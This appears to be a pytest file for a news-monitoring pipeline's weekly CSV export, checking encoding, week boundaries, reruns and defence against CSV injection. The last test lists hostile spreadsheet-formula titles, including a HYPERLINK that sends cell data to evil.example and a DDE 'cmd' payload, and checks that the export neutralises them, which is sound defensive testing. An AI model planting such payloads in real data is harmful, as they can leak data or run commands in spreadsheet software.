"""Weekly CSV: one row per relevant article of the ISO week, BOM, identical reruns."""

from __future__ import annotations

import datetime as dt

import pandas as pd

from core.config import Settings
from pipeline.process.analyse import run_process
from pipeline.reports.export import EXPORT_COLUMNS, previous_week, run_export
from storage.db import Database
from storage.reports import export_done
from storage.sources import sync_sources
from tests.pipeline.helpers import NOW, ScriptedAnalyzer, store_article


def test_weekly_csv_has_every_article_of_the_week_once(
    database: Database, settings: Settings
) -> None:
    with database.session() as session:
        sync_sources(session, settings.sources)
    # NOW is Wednesday 2026-11-25 (ISO week 48).
    flagged, story = store_article(
        database,
        title="Tiền cứu trợ ở Lệ Thủy “biến mất”",
        new_story_title="cứu trợ",
        text="Cứu trợ. SCORE=0.8 TOPIC=disaster TOPIC=administration",
        fetched_at=NOW,
    )
    store_article(
        database,
        source_id="bbc-vietnamese",
        story_id=story,
        title="Bản sao",
        text="Cứu trợ. SCORE=0.3",
        fetched_at=NOW + dt.timedelta(hours=1),
    )
    store_article(database, title="Tuần trước", fetched_at=NOW - dt.timedelta(days=7))
    store_article(database, title="Không liên quan", relevant=False, fetched_at=NOW)
    # Sunday 23:30 in Hanoi is still week 48, though it is Sunday 16:30 UTC.
    store_article(
        database,
        title="Chủ nhật khuya",
        fetched_at=dt.datetime(2026, 11, 29, 16, 30, tzinfo=dt.UTC),
    )
    run_process(settings, database, ScriptedAnalyzer(), now=NOW)

    result = run_export(settings, database, "2026-W48")
    raw = result.path.read_bytes()
    assert result.path.name == "presswatch-2026-W48.csv"
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    assert "Lệ Thủy “biến mất”".encode() in raw

    frame = pd.read_csv(result.path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(frame.columns) == EXPORT_COLUMNS
    assert list(frame["title"]) == [
        "Tiền cứu trợ ở Lệ Thủy “biến mất”",
        "Bản sao",
        "Chủ nhật khuya",
    ]
    first = frame.iloc[0]
    assert first["origin"] == "domestic" and first["flagged"] == "yes"
    assert first["topics"] == "disaster;administration" and first["stance"] == "critical"
    assert first["distortion_score"] == "0.80" and first["case_status"] == "new"
    assert first["case_id"] == frame.iloc[1]["case_id"] != ""
    assert first["fetched_at"] == "2026-11-25T10:00:00+07:00"
    assert frame.iloc[1]["origin"] == "foreign" and frame.iloc[1]["flagged"] == "no"
    assert str(flagged) == first["article_id"]

    again = run_export(settings, database, "2026-W48")
    assert again.path.read_bytes() == raw
    with database.session() as session:
        assert export_done(session, "2026-W48")
    assert previous_week(settings, NOW) == "2026-W47"


def test_an_empty_week_still_writes_the_header(database: Database, settings: Settings) -> None:
    result = run_export(settings, database, "2026-W01")
    assert result.rows == 0
    header = result.path.read_text(encoding="utf-8-sig").splitlines()[0]
    assert header.split(",") == EXPORT_COLUMNS


def test_cells_a_spreadsheet_would_run_are_neutralised(
    database: Database, settings: Settings
) -> None:
    """OWASP CSV injection: a crawled title "=HYPERLINK(...)" must not become a formula."""
    with database.session() as session:
        sync_sources(session, settings.sources)
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTab đầu",
        "\rCR đầu",
    ]
    for title in hostile:
        store_article(database, title=title, fetched_at=NOW)
    store_article(database, title="Lũ ở Quảng Bình - ngày 2", fetched_at=NOW)
    run_process(settings, database, ScriptedAnalyzer(), now=NOW)

    result = run_export(settings, database, "2026-W48")
    frame = pd.read_csv(result.path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    titles = list(frame["title"])
    assert titles[: len(hostile)] == ["'" + title for title in hostile]
    assert titles[-1] == "Lũ ở Quảng Bình - ngày 2"  # a dash inside is left alone
    for column in EXPORT_COLUMNS:
        for cell in frame[column]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert all(score == "" or not score.startswith("'") for score in frame["stance_score"])
